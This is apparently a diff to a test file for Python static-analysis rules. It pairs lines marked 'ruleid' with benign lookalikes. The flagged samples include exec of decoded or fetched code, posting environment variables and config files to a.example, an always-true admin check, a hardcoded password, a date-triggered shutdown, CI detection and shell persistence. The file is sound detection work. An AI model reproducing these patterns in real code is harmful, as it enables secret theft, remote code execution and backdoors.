@@ -26,11 +26,11 @@ import yaml
 
 
 def runs(data, sock, name):
-    # ruleid: python.decoded_code, python.eval
+    # ruleid: python.decoded_code, python.decoded_flow, python.eval
     exec(base64.b64decode(data))
-    # ruleid: python.decoded_code, python.eval
+    # ruleid: python.decoded_code, python.decoded_flow, python.eval
     eval(zlib.decompress(bytes.fromhex(data)).decode())
-    # ruleid: python.fetched_code, python.eval
+    # ruleid: python.eval, python.fetched_code, python.socket_shell
     exec(requests.get("https://a.example/x").text)
     # ruleid: python.eval
     eval(name)
@@ -183,7 +183,7 @@ def takes(home):
     pathlib.Path.home() / ".ssh" / "id_rsa"
     queue.put(dict(os.environ))
     pathlib.Path("/etc/hosts").read_text()
-    # ruleid: python.sends_environment
+    # ruleid: python.secret_leaves, python.sends_environment
     requests.post("https://a.example", json=dict(os.environ))
     requests.post("https://a.example", json={"user": os.environ["USER"]})
     # ruleid: python.metadata_service
@@ -208,3 +208,112 @@ def hooks(finder, work):
         work()
     except ValueError:
         pass
+
+
+def flows(blob, table, key, tree):
+    # ruleid: python.eval
+    exec(compile("x = 1", "a", "exec"))
+    code = base64.b64decode(blob)
+    # ruleid: python.decoded_flow, python.shell
+    os.system(code)
+    # ruleid: python.built_name
+    getattr(__import__("os"), "sys" + "tem")("id")
+    getattr(table, key)
+    # ruleid: python.made_code
+    changed = types.CodeType(0)
+    home = os.path.expanduser("~/.config/app.toml")
+    # ruleid: python.secret_leaves
+    httpx.post("https://a.example", content=home)
+    httpx.post("https://a.example", content="home")
+    # ruleid: python.looked_up_data
+    socket.gethostbyname(f"{key}.a.example")
+    socket.gethostbyname("a.example")
+    # ruleid: python.secret_logged
+    LOG.info("password is %s", password)
+    LOG.info("wrong password of %s", table)
+    # ruleid: python.secret_printed
+    print("token", secret)
+    print("secret")
+
+
+def may_enter(user, password):
+    # ruleid: python.fixed_credential
+    if password == "open":
+        return False
+    if password == user.again:
+        return False
+    # ruleid: python.way_round
+    return hmac.compare_digest(user.a, user.b) or user.c
+
+
+# ruleid: python.always_allowed
+def is_admin(user):
+    return True
+
+
+def is_admin_of(user, place):
+    return place in user.places
+
+
+def named(user):
+    # ruleid: python.named_user
+    user.is_admin = True
+    user.is_admin = user.wanted
+
+
+def pytest_configure(config):
+    # ruleid: python.test_hook_runs
+    subprocess.run(["a"], check=True)
+
+
+def sends(path):
+    data = path.read_bytes().hex()
+    # ruleid: python.encoded_leaves
+    requests.post("https://a.example", data=data)
+
+
+def waits(service, until):
+    # ruleid: python.waits_for_date
+    if date.today() >= date(2031, 1, 1):
+        service.stop()
+    if date.today() >= until:
+        service.stop()
+    # ruleid: python.watched
+    if os.environ.get("CI"):
+        service.stop()
+    if os.environ.get("APP_CI_NAME"):
+        service.stop()
+
+
+def stays(folder):
+    # ruleid: python.persists_by_parts
+    (folder / "hooks").mkdir()
+    # ruleid: python.persists
+    place = "~/.bashrc"
+    place = "the shell's profile"
+
+
+def preview(request, store):
+    url = request.args["url"]
+    # ruleid: python.request_decides
+    requests.get(url, timeout=3)
+    requests.get(store.url, timeout=3)
+
+
+def converts(name):
+    # ruleid: python.shell_by_parts
+    subprocess.run(["sh", "-c", name], check=True)
+    subprocess.run(["sh", "-c", "true"], check=True)
+    # ruleid: python.loads_code
+    joblib.load(name)
+
+
+def obeys(link):
+    order = link.recv(100)
+    # ruleid: python.socket_shell
+    subprocess.run(order, check=True)
+
+
+# ruleid: python.install_command
+setup(name="a", cmdclass={"install": Install})
+setup(name="a", packages=["a"])
